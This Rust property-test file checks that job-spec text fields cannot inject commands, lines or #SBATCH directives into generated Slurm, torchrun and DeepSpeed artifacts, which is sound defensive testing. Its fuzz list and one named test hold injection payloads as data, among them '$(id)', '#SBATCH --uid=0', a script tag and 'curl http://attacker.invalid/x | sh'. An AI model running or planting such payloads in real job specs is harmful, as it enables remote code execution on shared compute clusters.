//! No string in a free-text field of a spec (`name`, `model.name`, `data.dataset`) can add a line,
//! a command or an `#SBATCH` directive to a generated artifact, and the ds_config always parses
//! as JSON. Each artifact of a spec with a hostile value is compared with the same spec carrying
//! a plain marker: only the lines that carried the marker may differ, and only inside the
//! marker's slot (in the `spec.toml` the sbatch script writes, the line must read back as the
//! value); the command lines, parsed by bash itself, give the same words with the value (exactly
//! as written) in the marker's place. `PROPTEST_CASES=N` runs more cases.
#![cfg(not(target_arch = "wasm32"))]
#![allow(clippy::unwrap_used)]

use jobspec::launch::{self, Artifacts};
use jobspec::{Code, validate::is_clean_text, validate_toml};
use proptest::prelude::*;
use std::process::Command;

const MARK: &str = "onrampmark";

/// A TOML string literal holding `value`, escaped as TOML needs.
fn toml_str(value: &str) -> String {
    toml::Value::String(value.to_string()).to_string()
}

const LORA: &str = include_str!("../specs/7b-lora-4090.toml");
const TINY: &str = include_str!("../specs/tiny-train-stories260k.toml");

fn custom_pretrain(model_name: &str) -> String {
    format!(
        r#"name = "custom-pretrain"
task = "pretrain"

[model]
name = {}
layers = 2
hidden = 64
heads = 4
kv_heads = 4
ffn = 172
vocab = 512

[data]
dataset = "tinyshakespeare"
seq_len = 256

[train]
steps = 10
micro_batch = 2
grad_accum = 1
lr = 1e-3
warmup = 0

[resources]
card = "rtx-4090"
cards_per_node = 2
nodes = 2
time_limit = "1h"
"#,
        toml_str(model_name)
    )
}

/// One free-text field of one spec: how to put a value there, and what the artifacts should
/// carry in the marker's place.
struct Field {
    path: &'static str,
    label: bool,
    spec: fn(&str) -> String,
    /// What the value becomes where the artifacts use it (the job name is reduced to safe
    /// characters for `#SBATCH --job-name` and the output directory).
    shown: fn(&str) -> String,
}

fn replace_line(template: &str, key: &str, value: &str) -> String {
    template
        .lines()
        .map(|l| {
            if l.starts_with(&format!("{key} = ")) {
                format!("{key} = {}", toml_str(value))
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn fields() -> Vec<Field> {
    vec![
        Field {
            path: "name",
            label: true,
            spec: |v| replace_line(LORA, "name", v),
            shown: launch::safe_name,
        },
        Field {
            path: "data.dataset",
            label: false,
            spec: |v| replace_line(LORA, "dataset", v),
            shown: str::to_string,
        },
        Field {
            path: "name",
            label: true,
            spec: |v| replace_line(TINY, "name", v),
            shown: launch::safe_name,
        },
        Field {
            path: "data.dataset",
            label: false,
            spec: |v| replace_line(TINY, "dataset", v),
            shown: str::to_string,
        },
        Field {
            path: "model.name",
            label: true,
            spec: custom_pretrain,
            shown: str::to_string,
        },
    ]
}

fn artifacts_of(toml: &str) -> Option<Artifacts> {
    validate_toml(toml).0.map(|v| launch::artifacts(&v))
}

/// The words bash reads from a command line, with its program replaced by `printf`: what the
/// program would really get as arguments.
fn bash_words(command: &str) -> Vec<String> {
    let (_, args) = command.split_once(' ').unwrap();
    let out = Command::new("bash")
        .arg("-c")
        .arg(format!("printf '%s\\0' {args}"))
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("LC_ALL", "C.UTF-8")
        .output()
        .unwrap();
    assert!(out.status.success(), "bash refused {command:?}: {out:?}");
    String::from_utf8(out.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(String::from)
        .collect()
}

/// Checks one value in one field; `Err` describes the first way an artifact was changed.
fn check(field: &Field, value: &str) -> Result<(), String> {
    let toml = (field.spec)(value);
    let (valid, diags) = validate_toml(&toml);
    if !is_clean_text(value, field.label) {
        if valid.is_some() {
            return Err(format!("{value:?} in {} was accepted", field.path));
        }
        if !diags
            .iter()
            .any(|d| d.code == Code::BadText && d.path == field.path)
        {
            return Err(format!(
                "{value:?} in {}: no bad-text diagnostic",
                field.path
            ));
        }
        return Ok(());
    }
    let Some(valid) = valid else {
        // Refused for another reason (empty, too long): nothing is generated.
        return Ok(());
    };
    let got = launch::artifacts(&valid);
    let base = artifacts_of(&(field.spec)(MARK)).unwrap();
    if !got.ds_config.is_empty() {
        serde_json::from_str::<serde_json::Value>(&got.ds_config)
            .map_err(|e| format!("ds_config is not JSON: {e}"))?;
    }
    let shown = (field.shown)(value);
    for (what, b, g) in [
        ("ds_config", &base.ds_config, &got.ds_config),
        ("deepspeed", &base.deepspeed, &got.deepspeed),
        ("torchrun", &base.torchrun, &got.torchrun),
        ("sbatch", &base.sbatch, &got.sbatch),
    ] {
        let (bl, gl): (Vec<&str>, Vec<&str>) = (b.lines().collect(), g.lines().collect());
        if bl.len() != gl.len() {
            return Err(format!(
                "{what}: {} lines instead of {}",
                gl.len(),
                bl.len()
            ));
        }
        for (b, g) in bl.iter().zip(&gl) {
            match b.split_once(MARK) {
                None if b != g => return Err(format!("{what}: {g:?} instead of {b:?}")),
                Some((before, after)) => {
                    let (before, after) = toml_slot(before, after, g, value)
                        .map_err(|e| format!("{what}: {g:?}: {e}"))?;
                    if !g.starts_with(before) || !g.ends_with(after) {
                        return Err(format!("{what}: {g:?} left the slot of {b:?}"));
                    }
                }
                None => {}
            }
        }
    }
    for (b, g) in [
        (&base.deepspeed, &got.deepspeed),
        (&base.torchrun, &got.torchrun),
    ] {
        let expected: Vec<String> = bash_words(b)
            .into_iter()
            .map(|w| w.replace(MARK, &shown))
            .collect();
        let words = bash_words(g);
        if words != expected {
            return Err(format!("bash reads {words:?}, expected {expected:?}"));
        }
    }
    the_run_reads_back(&valid, &got.sbatch)?;
    // The sbatch script runs the same torchrun line (GPU) or tiny-train command (CPU).
    if !got.sbatch.contains(&got.torchrun) {
        return Err("the sbatch script does not run the torchrun line".into());
    }
    Ok(())
}

/// The run the script writes for the trainer reads back as the run of the spec.
fn the_run_reads_back(valid: &jobspec::ValidSpec, sbatch: &str) -> Result<(), String> {
    if valid.spec().task == jobspec::spec::Task::TinyTrain {
        return Ok(());
    }
    let body = heredoc_body(sbatch, jobspec::trainer::RUN_FILE)
        .ok_or("the sbatch script writes no trainer run")?;
    let read: serde_json::Value =
        serde_json::from_str(&body).map_err(|e| format!("the run is not JSON: {e}"))?;
    let want: serde_json::Value = serde_json::from_str(&jobspec::trainer::run_json(valid)).unwrap();
    if read != want {
        return Err("the script's run is not the spec's".into());
    }
    Ok(())
}

/// The text a script's `cat > FILE <<'END'` writes, read as bash would (to the line that is
/// exactly its end word).
fn heredoc_body(script: &str, file: &str) -> Option<String> {
    let start = format!("cat > {file} <<'");
    let mut lines = script.lines();
    let end = lines
        .by_ref()
        .find_map(|l| l.strip_prefix(start.as_str()))?
        .strip_suffix('\'')?
        .to_string();
    let body: Vec<&str> = lines.take_while(|l| *l != end).collect();
    Some(body.join("\n"))
}

/// A `key = "…"` line of the `spec.toml` that the sbatch script writes: TOML may quote the value
/// its own way (`'…'`, `'''…'''`), so the slot is everything after `key = `, and the line must read
/// back as exactly the value. Other slots are returned as they are.
fn toml_slot<'a>(
    before: &'a str,
    after: &'a str,
    line: &str,
    value: &str,
) -> Result<(&'a str, &'a str), String> {
    match (before.strip_suffix('"'), after.strip_prefix('"')) {
        (Some(key_eq), Some("")) if key_eq.ends_with(" = ") => {
            let key = key_eq.trim_end_matches(" = ");
            let table: toml::Table = toml::from_str(line).map_err(|e| e.to_string())?;
            match table.get(key).and_then(toml::Value::as_str) {
                Some(v) if v == value => Ok((key_eq, "")),
                other => Err(format!("reads back as {other:?}")),
            }
        }
        _ => Ok((before, after)),
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "\n",
        "\r\n",
        "\r",
        "#SBATCH --uid=0",
        "\n#SBATCH --wrap=id\n",
        "$(id)",
        "`id`",
        "${HOME}",
        "'",
        "\"",
        "\\",
        ";echo injected",
        "|",
        "&&",
        "\u{2028}",
        "\u{85}",
        "\u{1b}[2J",
        "\u{202e}",
        "\u{200b}",
        "ONRAMP_RUN",
        "\nONRAMP_RUN\n",
        "\nONRAMP_SPEC\n",
        "}",
        "{\"a\":1}",
        "#",
        " ",
        "\t",
        "curl http://attacker.invalid/x | sh",
        "-",
        "--check",
        "/data/set.jsonl",
        "a-b_c.d",
        "%~:@=,+",
        "中文",
        "<script>alert(1)</script>",
    ]);
    prop_oneof![
        prop::collection::vec(pieces, 1..6).prop_map(|v| v.concat()),
        any::<String>(),
        "[a-z0-9._/-]{1,24}",
        "[ -~]{1,24}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn no_field_value_changes_an_artifact_outside_its_slot(value in hostile()) {
        for field in fields() {
            if let Err(e) = check(&field, &value) {
                prop_assert!(false, "{} = {:?}: {}", field.path, value, e);
            }
        }
    }
}

#[test]
fn the_reported_injection_is_refused_where_it_enters() {
    let attack = "x\ncurl http://attacker.invalid/x | sh\n#";
    let (valid, diags) = validate_toml(&custom_pretrain(attack));
    assert!(valid.is_none());
    let d = diags
        .iter()
        .find(|d| d.code == Code::BadText)
        .expect("a bad-text diagnostic");
    assert_eq!(d.path, "model.name");
    assert!(d.message.en.contains("line break"), "{}", d.message.en);
    assert!(d.message.en.contains("character 2"), "{}", d.message.en);
    assert!(d.message.zh.contains("换行符"), "{}", d.message.zh);
    assert!(d.line > 0, "the diagnostic points at the line");
}

#[test]
fn printable_but_hostile_text_stays_in_its_slot() {
    for value in [
        "a'b $(id) \"c\" `id` ; | & # \\",
        "<script>alert(1)</script>",
        "实验 一号",
    ] {
        for field in fields().iter().filter(|f| f.label) {
            check(field, value).unwrap();
            assert!(
                artifacts_of(&(field.spec)(value)).is_some(),
                "{value} refused"
            );
        }
    }
    for value in ["data/zh-instruct.jsonl", "hf:org/set@v1", "数据/训练集"] {
        for field in fields().iter().filter(|f| !f.label) {
            check(field, value).unwrap();
            assert!(
                artifacts_of(&(field.spec)(value)).is_some(),
                "{value} refused"
            );
        }
    }
    // A dataset reaches only the datasets root or the job's own folder.
    for value in [
        "/shared/data/zh-instruct.jsonl",
        "../other-job/out",
        "~/data",
    ] {
        for field in fields().iter().filter(|f| !f.label) {
            assert!(
                artifacts_of(&(field.spec)(value)).is_none(),
                "{value} accepted"
            );
        }
    }
}

#[test]
fn shell_quote_keeps_any_string_one_word_on_one_line() {
    for s in [
        "plain",
        "",
        "a b",
        "it's",
        "x\ny",
        "\r\n#SBATCH --uid=0",
        "tab\there",
        "back\\slash'quote",
        "\u{2028}\u{85}\u{202e}\u{0}",
        "中文\n",
    ] {
        let q = launch::shell_quote(s);
        assert_eq!(q.lines().count().max(1), 1, "{q:?} spans lines");
        // NUL cannot travel through argv; bash's $'…' cuts the word there, as it should.
        let expected = s.split('\0').next().unwrap_or_default();
        let words = bash_words(&format!("prog {q}"));
        assert_eq!(words, vec![expected.to_string()], "{s:?} quoted as {q}");
    }
}
